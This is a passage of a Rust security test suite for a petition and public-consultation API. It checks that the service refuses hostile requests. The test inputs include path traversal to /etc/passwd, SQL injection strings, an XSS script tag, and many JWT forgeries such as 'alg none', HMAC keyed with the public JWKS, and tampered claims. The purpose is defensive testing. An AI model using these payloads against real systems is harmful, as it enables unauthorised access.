        refused("query: a bad level", get("/petitions?level=planet"), 400, "invalid_query"),
        refused("query: a bad region", get("/petitions?region=atlantis"), 400, "invalid_query"),
        refused("query: a look-alike addressee", get("/petitions?addressee=%D0%B0kimat-almaty"), 400, "invalid_query"),
        refused("query: a garbage cursor", get("/petitions?cursor=!!!"), 400, "invalid_cursor"),
        refused("query: a base64 non-JSON cursor", get(&with_cursor(b64url(b"hello"))), 400, "invalid_cursor"),
        refused("query: a cursor of another sort", get(&other_sort), 400, "invalid_cursor"),
        refused("query: a cursor with an impossible time", get(&with_cursor(newest(i64::MAX))), 400, "invalid_cursor"),
        // Regression: a cursor time that `time` accepts but PostgreSQL cannot store used to fail (500).
        refused("query: a cursor in the year -9999", get(&with_cursor(newest(-377_705_116_800_000_000))), 400, "invalid_cursor"),
        refused("query: a 300-character cursor", get(&long_cursor), 422, "invalid_input"),
        refused("query: an empty cursor", get("/petitions?cursor="), 422, "invalid_input"),
        refused("query: limit 0", get("/petitions?limit=0"), 422, "invalid_input"),
        refused("query: limit 1000", get("/petitions?limit=1000"), 422, "invalid_input"),
        refused("query: limit -1", get("/petitions?limit=-1"), 400, "invalid_query"),
        refused("query: limit abc", get("/petitions?limit=abc"), 400, "invalid_query"),
        refused("query: limit 2^32", get("/petitions?limit=4294967296"), 400, "invalid_query"),
        refused("query: a malformed id", get("/petitions/not-a-uuid"), 400, "invalid_path"),
        refused("query: SQL as an id", get("/petitions/1%27%20OR%201%3D1/count"), 400, "invalid_path"),
        refused("query: an unknown id", get(&format!("/petitions/{unknown}")), 404, "petition_not_found"),
        refused("query: an unknown id (timeline)", get(&format!("/petitions/{unknown}/timeline")), 404, "petition_not_found"),
        refused("query: a draft is not public", get(&format!("/petitions/{draft}")), 404, "petition_not_found"),
        refused("query: a petition in moderation is not public", get(&format!("/petitions/{in_moderation}/count")), 404, "petition_not_found"),
        refused("query: path traversal", get("/petitions/..%2F..%2Fetc"), 400, "invalid_path"),
        refused("query: path traversal (regions)", get("/petitions/..%2F..%2Fetc%2Fpasswd/regions"), 400, "invalid_path"),
        refused("query: an unknown route", get("/admin"), 404, "not_found"),
        refused("query: DELETE /petitions", api.query(Method::DELETE, "/petitions"), 405, "method_not_allowed"),
        refused("query: POST /petitions", api.query(Method::POST, "/petitions").json(&valid), 405, "method_not_allowed"),
        refused("command: DELETE /petitions", api.command(Method::DELETE, petitions, Some(&author)), 405, "method_not_allowed"),
        refused("command: PUT a signature", api.command(Method::PUT, &sign_path, Some(&signer)), 405, "method_not_allowed"),
        refused("command: PATCH a signature", api.command(Method::PATCH, &sign_path, Some(&signer)), 405, "method_not_allowed"),
        refused("command: a malformed id", api.command(Method::POST, "/petitions/not-a-uuid/submit", Some(&author)), 400, "invalid_path"),
        refused("command: path traversal", api.sign("..%2F..%2Fetc", &signer), 400, "invalid_path"),
        accepted("query: the reference petition", get(&format!("/petitions/{reference}")), 200, UNCHANGED),
        accepted("query: the catalogue", get("/petitions?limit=100&sort=most_signed"), 200, UNCHANGED),
    ];
    runner.run_all(queries).await;

    // ----- tokens: every refusal is a 401 with its code, and signs nothing -----
    let valid_token = citizen(2);
    let mut parts: Vec<String> = valid_token.split('.').map(str::to_owned).collect();
    let mut tampered_claims = Forge::claims(2);
    tampered_claims["region"] = json!(Region::Astana.code());
    tampered_claims["iin"] = json!(adult_iin(3).expose_digits());
    parts[1] = b64url(tampered_claims.to_string().as_bytes());
    let tampered = parts.join(".");
    let signature_swapped = {
        let other = citizen(4);
        let mut parts: Vec<&str> = valid_token.split('.').collect();
        parts[2] = other.split('.').nth(2).unwrap();
        parts.join(".")
    };
    let unsigned_eddsa = {
        let parts: Vec<&str> = valid_token.split('.').collect();
        format!("{}.{}.", parts[0], parts[1])
    };
    let huge = format!(
        "{}.{}.{}",
        b64url(forge.header().to_string().as_bytes()),
        "A".repeat(10 * 1024),
        "B".repeat(86)
    );
    let jwks = forge.jwks_text();
    let past = now() - 3_600;
    let future = now() + 3_600;
    let sign_as = |token: &str| api.sign(&reference, token);
    let authorization = |value: String| api.sign_with_authorization(&reference, value.as_bytes());
    let remove = |claim: &'static str| -> Edit {
        Box::new(move |c| {
            c.remove(claim);
        })
    };
    let set = |claim: &'static str, value: Value| -> Edit {
        Box::new(move |c| {
            c.insert(claim.to_owned(), value);
        })
    };
    let claims = |edit: Edit| sign_as(&forge.citizen_with(10, edit));
    #[rustfmt::skip]
    let tokens = vec![
        refused("token: none", api.command(Method::POST, &sign_path, None), 401, "missing_token"),
        refused("token: alg none", sign_as(&forge.unsigned("none", 10)), 401, "algorithm_not_allowed"),
        refused("token: alg None", sign_as(&forge.unsigned("None", 10)), 401, "algorithm_not_allowed"),
        refused("token: alg NONE", sign_as(&forge.unsigned("NONE", 10)), 401, "algorithm_not_allowed"),
        refused("token: alg nOnE", sign_as(&forge.unsigned("nOnE", 10)), 401, "algorithm_not_allowed"),
        refused("token: EdDSA header, no signature", sign_as(&unsigned_eddsa), 401, "invalid_signature"),
        refused("token: HS256 keyed with the JWKS text", sign_as(&forge.hs256("HS256", jwks.as_bytes(), 10)), 401, "algorithm_not_allowed"),
        refused("token: HS256 keyed with the kid", sign_as(&forge.hs256("HS256", forge.kid.as_bytes(), 10)), 401, "algorithm_not_allowed"),
        refused("token: an HMAC under an EdDSA header", sign_as(&forge.hs256("EdDSA", jwks.as_bytes(), 10)), 401, "invalid_signature"),
        refused("token: alg RS256", sign_as(&forge.header_with(10, set("alg", json!("RS256")))), 401, "algorithm_not_allowed"),
        refused("token: alg eddsa", sign_as(&forge.header_with(10, set("alg", json!("eddsa")))), 401, "algorithm_not_allowed"),
        refused("token: expired", claims(set("exp", json!(past))), 401, "expired"),
        refused("token: not yet valid", claims(set("nbf", json!(future))), 401, "not_yet_valid"),
        refused("token: issued in the future", claims(set("iat", json!(future))), 401, "not_yet_valid"),
        refused("token: wrong issuer", claims(set("iss", json!("https://evil.example"))), 401, "wrong_issuer"),
        refused("token: wrong audience", claims(set("aud", json!("tyndau-prod"))), 401, "wrong_audience"),
        refused("token: missing exp", claims(remove("exp")), 401, "missing_claim"),
        refused("token: missing sub", claims(remove("sub")), 401, "missing_claim"),
        refused("token: missing iss", claims(remove("iss")), 401, "missing_claim"),
        refused("token: missing aud", claims(remove("aud")), 401, "missing_claim"),
        refused("token: missing nbf", claims(remove("nbf")), 401, "missing_claim"),
        refused("token: missing roles", claims(remove("roles")), 401, "missing_claim"),
        refused("token: missing iin", claims(remove("iin")), 401, "missing_claim"),
        // jsonwebtoken reads an unparsable `exp` as absent: `missing_claim`, not `invalid_claim`.
        refused("token: exp as a string", claims(set("exp", json!("9999999999"))), 401, "missing_claim"),
        refused("token: unknown kid", sign_as(&forge.header_with(10, set("kid", json!("dev-attacker")))), 401, "unknown_key"),
        refused("token: kid path traversal", sign_as(&forge.header_with(10, set("kid", json!("../../../dev/null")))), 401, "unknown_key"),
        refused("token: missing kid", sign_as(&forge.header_with(10, remove("kid"))), 401, "unknown_key"),
        refused("token: a crit header", sign_as(&forge.header_with(10, set("crit", json!(["exp"])))), 401, "malformed_token"),
        refused("token: wrong typ", sign_as(&forge.header_with(10, set("typ", json!("refresh+jwt")))), 401, "wrong_token_type"),
        refused("token: tampered region and IIN", sign_as(&tampered), 401, "invalid_signature"),
        refused("token: another token's signature", sign_as(&signature_swapped), 401, "invalid_signature"),
        refused("token: invalid IIN check digit", claims(set("iin", json!("900101300018"))), 401, "invalid_claim"),
        refused("token: IIN as a number", claims(set("iin", json!(900_101_300_017u64))), 401, "invalid_claim"),
        refused("token: unknown region", claims(set("region", json!("atlantis"))), 401, "invalid_claim"),
        refused("token: unknown role", claims(set("roles", json!(["root"]))), 401, "invalid_claim"),
        refused("token: several roles", claims(set("roles", json!(["citizen", "admin"]))), 401, "ambiguous_role"),
        refused("token: a control character in sub", claims(set("sub", json!("a\u{0}b"))), 401, "invalid_claim"),
        refused("token: a bidi override in the name", claims(set("name", json!("evil\u{202e}txt"))), 401, "invalid_claim"),
        // The HTTP edge reads any other scheme as "no bearer token" (tyndau-auth's own
        // `bearer_token` would say `malformed_token`).
        refused("token: Basic scheme", authorization(format!("Basic {valid_token}")), 401, "missing_token"),
        refused("token: no scheme", authorization(valid_token.clone()), 401, "missing_token"),
        refused("token: two tokens", authorization(format!("Bearer {valid_token} {valid_token}")), 401, "malformed_token"),
        refused("token: two tokens joined by a comma", authorization(format!("Bearer {valid_token},{valid_token}")), 401, "malformed_token"),
        refused("token: empty bearer", authorization("Bearer ".to_owned()), 401, "missing_token"),
        refused("token: 10 KB", authorization(format!("Bearer {huge}")), 401, "malformed_token"),
        refused("token: garbage", authorization("Bearer not.a.jwt".to_owned()), 401, "malformed_token"),
        refused("token: non-ASCII header bytes", authorization("Bearer ключ".to_owned()), 401, "missing_token"),
        accepted("token: lower-case `bearer` is fine", authorization(format!("bearer {valid_token}")), 201, SIGNED),
    ];
    runner.run_all(tokens).await;

    // ----- authorisation and moderation -----
    let astana = platform.official_token("akimat-astana");
    let almaty = platform.official_token("akimat-almaty");
    let stop = json!({ "reason": "rules_breach", "explanation": "Нарушение правил." });
    let rejection = json!({ "reason": "unclear", "explanation": "Непонятно." });
    let on_reference = |verb: &str| format!("/petitions/{reference}/{verb}");
    let moderating = |verb: &str| format!("/petitions/{in_moderation}/{verb}");
    let submit_draft =
        |token: &str| api.command(Method::POST, &format!("/petitions/{draft}/submit"), Some(token));
    let bad_reason = json!({ "reason": "dislike", "explanation": "x" });
    let empty_explanation = json!({ "reason": "unclear", "explanation": "" });
    let blank_stop = json!({ "reason": "rules_breach", "explanation": "   " });
    let bad_decision = json!({ "decision": "maybe", "text": { "ru": "Нет." } });
    let no_answer = json!({ "decision": "satisfied", "text": {} });
    #[rustfmt::skip]
    let authorisation = vec![
        refused("authz: another body's official answers", api.post_json(&on_reference("answer"), &astana, &answer_body()), 403, "not_addressee"),
        refused("authz: the addressee answers below the threshold", api.post_json(&on_reference("answer"), &almaty, &answer_body()), 409, "threshold_not_reached"),
        refused("authz: a citizen answers", api.post_json(&on_reference("answer"), &author, &answer_body()), 403, "forbidden"),
        refused("authz: a citizen publishes", api.command(Method::POST, &moderating("publish"), Some(&author)), 403, "forbidden"),
        refused("authz: a citizen rejects", api.post_json(&moderating("reject"), &author, &rejection), 403, "forbidden"),
        refused("authz: a citizen stops", api.post_json(&on_reference("stop"), &author, &stop), 403, "forbidden"),
        refused("authz: an official stops", api.post_json(&on_reference("stop"), &almaty, &stop), 403, "forbidden"),
        refused("authz: a moderator signs", api.sign(&reference, &moderator), 403, "forbidden"),
        refused("authz: an official signs", api.sign(&reference, &almaty), 403, "forbidden"),
        refused("authz: a moderator drafts", api.post_json(petitions, &moderator, &valid), 403, "forbidden"),
        refused("authz: a minor signs", api.sign(&reference, &platform.minor_token(1)), 403, "too_young"),
        refused("authz: a non-resident signs a city petition", api.sign(&reference, &platform.citizen_token_in(20, Region::Astana)), 403, "not_resident"),
        refused("authz: a non-author submits", submit_draft(&signer), 403, "not_author"),
        refused("authz: a moderator submits", submit_draft(&moderator), 403, "forbidden"),
        refused("moderation: an unknown rejection reason", api.post_json(&moderating("reject"), &moderator, &bad_reason), 422, "invalid_body"),
        refused("moderation: an empty explanation", api.post_json(&moderating("reject"), &moderator, &empty_explanation), 422, "invalid_input"),
        refused("moderation: a whitespace-only stop explanation", api.post_json(&on_reference("stop"), &moderator, &blank_stop), 422, "empty_text"),
        refused("moderation: rejecting an open petition", api.post_json(&on_reference("reject"), &moderator, &rejection), 409, "not_submitted"),
        refused("answer: an unknown decision", api.post_json(&on_reference("answer"), &almaty, &bad_decision), 422, "invalid_body"),
        refused("answer: no text", api.post_json(&on_reference("answer"), &almaty, &no_answer), 422, "invalid_input"),
    ];
    runner.run_all(authorisation).await;

    // ----- replays and races -----
    let submit = |id: &str| api.command(Method::POST, &format!("/petitions/{id}/submit"), Some(&author));
    let publish = |id: &str| {
        api.command(
            Method::POST,
            &format!("/petitions/{id}/publish"),
            Some(&moderator),
        )
    };
    let mut replays = vec![accepted(
        "replay: sign #0",
        api.sign(&reference, &signer),
        201,
        SIGNED,
    )];
    replays.extend((1..20).map(|i| {
        refused(
            format!("replay: sign #{i}"),
            api.sign(&reference, &signer),
            409,
            "already_signed",
        )
    }));
    let (c30, c31, c32) = (citizen(30), citizen(31), citizen(32));
    #[rustfmt::skip]
    replays.extend([
        accepted("replay: submit #0", submit(&replayed_draft), 200, ONE_EVENT),
        refused("replay: submit #1", submit(&replayed_draft), 409, "not_draft"),
        refused("replay: submit #2", submit(&replayed_draft), 409, "not_draft"),
        accepted("replay: publish #0", publish(&published_twice), 200, ONE_EVENT),
        refused("replay: publish #1", publish(&published_twice), 409, "not_submitted"),
        refused("replay: publish a draft", publish(&draft), 409, "not_submitted"),
        refused("replay: publish an unknown petition", publish(&unknown), 404, "petition_not_found"),
        refused("withdraw: never signed", api.withdraw(&reference, &c30), 404, "not_signed"),
        accepted("withdraw: sign", api.sign(&reference, &c31), 201, SIGNED),
        accepted("withdraw: withdraw", api.withdraw(&reference, &c31), 200, WITHDRAWN),
        refused("withdraw: withdraw again", api.withdraw(&reference, &c31), 409, "already_withdrawn"),
        refused("withdraw: sign again after withdrawing", api.sign(&reference, &c31), 409, "withdrawn_earlier"),
        refused("sign: a petition in moderation", api.sign(&in_moderation, &c32), 404, "petition_not_found"),
        refused("sign: a draft", api.sign(&draft, &c32), 404, "petition_not_found"),
        refused("sign: an unknown petition", api.sign(&unknown, &c32), 404, "petition_not_found"),
        refused("withdraw: an unknown petition", api.withdraw(&unknown, &c32), 404, "petition_not_found"),
        refused("sign: a malformed id", api.sign("42", &c32), 400, "invalid_path"),
    ]);
    runner.run_all(replays).await;
    let racer = citizen(40);
    runner
        .race(
            "race: 100 identical signatures at once",
            (0..100).map(|_| api.sign(&reference, &racer)).collect(),
            201,
            (409, "already_signed"),
            SIGNED,
        )
        .await;

    // ----- NUL in a stop explanation: refused, and the petition must still take signatures -----
    let nul_stop = json!({ "reason": "rules_breach", "explanation": "a\u{0}b" });
    #[rustfmt::skip]
    let nul_stops = vec![
        // Regression: a stop whose event could not be stored used to leave the signature gate shut
        // while the petition stayed open. NUL is now refused at the edge, and a failed close reopens the gate.
        refused("moderation: NUL in a stop explanation", api.post_json(&on_reference("stop"), &moderator, &nul_stop), 422, "invalid_input"),
        // Regression (same cause): this used to fail with 410 `petition_closed`.
        accepted("moderation: still signable after the refused stop", api.sign(&reference, &citizen(33)), 201, SIGNED),
    ];
    runner.run_all(nul_stops).await;

    // ----- consultations: comments, answers, moderation, reports, public reads -----
    let government = platform.official_token("government");
    let other_body = platform.official_token("akimat-almaty");
    let consultation_body = json!({
        "content": {
            "kk": { "title": "Заң жобасы", "summary": "Қысқаша.", "explanatory_note": "Жазба." },
            "ru": { "title": "Проект закона", "summary": "Кратко.", "explanatory_note": "Записка." }
        },
        "provisions": [
            { "path": "a1", "text": { "kk": "Бірінші бап мәтіні.", "ru": "Текст первой статьи." } },
            { "path": "a1.p1", "text": { "kk": "Бірінші тармақ.", "ru": "Первый пункт статьи." } }
        ],
    });
    let created = platform
        .post(
            "/consultations",
            Some(&government),
            Some(consultation_body.clone()),
        )
        .await;
    let consultation = created.expect_status(201)["consultation_id"]
        .as_str()
        .unwrap()
        .to_owned();
    let closes_at = (OffsetDateTime::now_utc() + Duration::from_secs(40 * 24 * 3_600))
        .format(&time::format_description::well_known::Rfc3339)
        .unwrap();
    platform
        .post(
            &format!("/consultations/{consultation}/open"),
            Some(&government),
            Some(json!({ "closes_at": closes_at })),
        )
        .await
        .expect_status(200);
    let first = platform
        .post(
            &format!("/consultations/{consultation}/comments"),
            Some(&citizen(60)),
            Some(json!({ "path": "a1", "language": "ru", "text": "Первое мнение." })),
        )
        .await;
    let proposal = first.expect_status(201)["comment_id"]
        .as_str()
        .unwrap()
        .to_owned();
    eventually(
        || async { platform.get(&format!("/consultations/{consultation}")).await.body["comments"] == 1 },
        PATIENCE,
    )
    .await;
    runner.rebaseline("consultation setup").await;
    let comments = format!("/consultations/{consultation}/comments");
    let on_proposal = |what: &str| format!("/consultations/{consultation}/comments/{proposal}/{what}");
    let commenter = citizen(61);
    let comment = |body: Value| api.post_json(&comments, &commenter, &body);
    let raw_comment = |content_type: Option<&str>, body: &[u8]| {
        api.post_raw(&comments, &commenter, content_type, body.to_vec())
    };
    let long_comment = "Ж".repeat(5_001);
    let mut deep_comment = String::from(r#"{"language":"ru","text":"#);
    deep_comment.push_str(&"[".repeat(3_000));
    deep_comment.push_str(&"]".repeat(3_000));
    deep_comment.push('}');
    let answer_rejected = json!({ "disposition": "rejected", "reason": { "ru": "Не принято." } });
    let now_rfc = OffsetDateTime::now_utc()
        .format(&time::format_description::well_known::Rfc3339)
        .unwrap();
    #[rustfmt::skip]
    let consultation_cases = vec![
        accepted("comment: HTML and script, stored as written", comment(json!({ "language": "ru", "text": "<script>alert(1)</script><b>жирный</b>" })), 201, ONE_EVENT),
        accepted("comment: SQL-looking text, stored as written", comment(json!({ "language": "kk", "text": "'; DROP TABLE events; --" })), 201, ONE_EVENT),
        refused("comment: a look-alike provision path (Cyrillic а1)", comment(json!({ "path": "а1", "language": "ru", "text": "x" })), 422, "invalid_body"),
        refused("comment: 5001 characters", comment(json!({ "language": "ru", "text": long_comment })), 422, "invalid_input"),
        refused("comment: NUL in the text", comment(json!({ "language": "ru", "text": "a\u{0}b" })), 422, "invalid_input"),
        refused("comment: unknown field", comment(json!({ "language": "ru", "text": "x", "likes": 1000 })), 422, "invalid_body"),
        refused("comment: unknown language", comment(json!({ "language": "de", "text": "x" })), 422, "invalid_body"),
        refused("comment: malformed provision path", comment(json!({ "path": "article 1", "language": "ru", "text": "x" })), 422, "invalid_body"),
        refused("comment: a provision that does not exist", comment(json!({ "path": "a9", "language": "ru", "text": "x" })), 422, "unknown_provision"),
        refused("comment: a quote not in the provision", comment(json!({ "path": "a1", "quote": "чего нет", "language": "ru", "text": "x" })), 422, "quote_not_found"),
        refused("comment: a quote without a provision", comment(json!({ "quote": "Текст", "language": "ru", "text": "x" })), 422, "quote_without_provision"),
        refused("comment: a citizen posing as the business chamber", comment(json!({ "channel": "business_chamber", "language": "ru", "text": "x" })), 422, "wrong_channel"),
        refused("comment: the developing body on its own draft", api.post_json(&comments, &government, &json!({ "language": "ru", "text": "x" })), 403, "own_consultation"),
        refused("comment: 3000 levels of nesting", raw_comment(Some("application/json"), deep_comment.as_bytes()), 422, "invalid_body"),
        refused("comment: text/plain", raw_comment(Some("text/plain"), br#"{"language":"ru","text":"x"}"#), 415, "unsupported_media_type"),
        refused("comment: malformed JSON", raw_comment(Some("application/json"), b"{language: ru}"), 400, "malformed_json"),
        refused("comment: an unknown consultation", api.post_json("/consultations/0196a000-0000-7000-8000-00000000dead/comments", &commenter, &json!({ "language": "ru", "text": "x" })), 404, "consultation_not_found"),
        refused("comment: a malformed consultation id", api.post_json("/consultations/42/comments", &commenter, &json!({ "language": "ru", "text": "x" })), 400, "invalid_path"),
        refused("reply: to a comment of another consultation", api.post_json("/consultations/0196a000-0000-7000-8000-00000000dead/comments/0196a000-0000-7000-8000-00000000beef/replies", &commenter, &json!({ "language": "ru", "text": "x" })), 404, "consultation_not_found"),
        refused("reply: to a comment that does not exist", api.post_json(&format!("/consultations/{consultation}/comments/0196a000-0000-7000-8000-00000000beef/replies"), &commenter, &json!({ "language": "ru", "text": "x" })), 404, "parent_not_found"),
        refused("reply: with an anchor", api.post_json(&on_proposal("replies"), &commenter, &json!({ "path": "a1", "language": "ru", "text": "x" })), 422, "invalid_body"),
        refused("edit: someone else's comment", api.command(Method::PATCH, &format!("/consultations/{consultation}/comments/{proposal}"), Some(&commenter)).json(&json!({ "text": "x" })), 403, "not_author"),
        refused("stance: not a stance", api.command(Method::PUT, &on_proposal("stance"), Some(&commenter)).json(&json!({ "stance": "love" })), 422, "invalid_body"),
        refused("stance: by an official", api.command(Method::PUT, &on_proposal("stance"), Some(&government)).json(&json!({ "stance": "agree" })), 403, "forbidden"),
        refused("stance: on one's own comment", api.command(Method::PUT, &on_proposal("stance"), Some(&citizen(60))).json(&json!({ "stance": "agree" })), 403, "own_comment"),
        refused("flag: not a reason", api.post_json(&on_proposal("flags"), &commenter, &json!({ "reason": "boring" })), 422, "invalid_body"),
        refused("hide: by a citizen", api.post_json(&on_proposal("hide"), &commenter, &json!({ "reason": "spam", "explanation": "x" })), 403, "forbidden"),
        refused("hide: without an explanation", api.post_json(&on_proposal("hide"), &moderator, &json!({ "reason": "spam", "explanation": "" })), 422, "invalid_input"),
        refused("answer: by another organisation", api.post_json(&on_proposal("answer"), &other_body, &answer_rejected), 403, "not_responsible_body"),
        refused("answer: by a citizen", api.post_json(&on_proposal("answer"), &commenter, &answer_rejected), 403, "forbidden"),
        refused("answer: without a reason", api.post_json(&on_proposal("answer"), &government, &json!({ "disposition": "rejected", "reason": {} })), 422, "invalid_input"),
        refused("answer: duplicate of itself", api.post_json(&on_proposal("answer"), &government, &json!({ "disposition": "duplicate", "reason": { "ru": "x" }, "duplicate_of": proposal })), 422, "invalid_duplicate"),
        refused("answer: a change in a version that does not exist", api.post_json(&on_proposal("answer"), &government, &json!({ "disposition": "accepted", "reason": { "ru": "x" }, "changed": { "version": 9, "path": "a1" } })), 422, "unknown_changed_provision"),
        refused("report: while open", api.post_json(&format!("/consultations/{consultation}/report"), &government, &json!({ "summary": { "ru": "x" } })), 409, "consultation_not_closed"),
        refused("open: again", api.post_json(&format!("/consultations/{consultation}/open"), &government, &json!({ "closes_at": closes_at })), 409, "not_drafted"),
        refused("draft: an empty body", api.post_json("/consultations", &government, &json!({})), 422, "invalid_body"),
        refused("version: by another organisation", api.post_json(&format!("/consultations/{consultation}/versions"), &other_body, &json!({ "provisions": consultation_body["provisions"] })), 403, "not_responsible_body"),
        refused("version: identical to the current one", api.post_json(&format!("/consultations/{consultation}/versions"), &government, &json!({ "provisions": consultation_body["provisions"] })), 422, "no_changes"),
        refused("draft: by a citizen", api.post_json("/consultations", &commenter, &consultation_body), 403, "forbidden"),
        refused("query: a foreign cursor for threads", api.get(&format!("/consultations/{consultation}/comments?cursor=AAAA")), 400, "invalid_cursor"),
        refused("query: an unknown thread scope", api.get(&format!("/consultations/{consultation}/comments?scope=all-of-it")), 400, "invalid_query"),
        refused("query: a diff from version 0", api.get(&format!("/consultations/{consultation}/diff?from=0&to=1")), 422, "invalid_input"),
        refused("query: an unknown consultation report", api.get("/consultations/0196a000-0000-7000-8000-00000000dead/report.csv"), 404, "consultation_not_found"),
        refused("invalidation: by a citizen", api.post_json(&on_reference("invalidations"), &commenter, &json!({ "reason": "automated", "explanation": "x", "rule": { "signed_from": now_rfc } })), 403, "forbidden"),
        refused("invalidation: a network that is not one", api.post_json(&on_reference("invalidations"), &moderator, &json!({ "reason": "automated", "explanation": "x", "rule": { "network": "999.1.1.0/24" } })), 422, "invalid_rule"),
        refused("invalidation: an empty rule", api.post_json(&on_reference("invalidations"), &moderator, &json!({ "reason": "automated", "explanation": "x", "rule": {} })), 422, "invalid_rule"),
        refused("audit: by a moderator", api.command(Method::GET, "/admin/audit", Some(&moderator)), 403, "forbidden"),
        refused("erasure: by a moderator", api.command(Method::DELETE, "/me", Some(&moderator)), 403, "forbidden"),
        refused("signers: a malformed before", api.get(&format!("/petitions/{reference}/signers?before=yesterday")), 400, "invalid_query"),
    ];
    runner.run_all(consultation_cases).await;

    // ----- after the collection period: the scheduler closes every open petition -----
    let report = platform
        .scheduler()
        .tick(OffsetDateTime::now_utc() + Duration::from_secs(200 * 24 * 3_600))
        .await
        .unwrap();
    assert!(report.closed >= 1, "{report:?}");
    runner.rebaseline("closing").await;
    assert_eq!(
        runner.baseline.status.as_deref(),
        Some("closed"),
        "{:?}",
        runner.baseline
    );
    let nul_title = petition_with("kk", "title", json!("a\u{0}b"));
    let nul_rejection = json!({ "reason": "unclear", "explanation": "a\u{0}b" });
    #[rustfmt::skip]
    let closed = vec![
        refused("closed: sign", api.sign(&reference, &citizen(50)), 410, "petition_closed"),
        refused("closed: sign again (a signer)", api.sign(&reference, &signer), 410, "petition_closed"),
        refused("closed: withdraw", api.withdraw(&reference, &signer), 410, "petition_closed"),
        refused("closed: stop", api.post_json(&on_reference("stop"), &moderator, &stop), 409, "not_open"),
        // Regression: NUL used to pass validation and fail when PostgreSQL refused to store it (500).
        refused("body: NUL in a title", post_petition(&nul_title), 422, "invalid_input"),
        // Regression: the same for a rejection explanation.
        refused("moderation: NUL in a rejection explanation", api.post_json(&moderating("reject"), &moderator, &nul_rejection), 422, "invalid_input"),
    ];
    runner.run_all(closed).await;

    runner.report();
    let (cases, server_errors, failures) = (
        runner.stats.cases,
        runner.stats.server_errors.len(),
        runner.failures.len(),
    );
    drop(runner);
    platform.shutdown().await;
    assert!(cases >= 60, "only {cases} cases ran");
    assert_eq!(server_errors, 0, "5xx replies: see the summary above");
    assert_eq!(failures, 0, "{failures} failures: see the summary above");
}
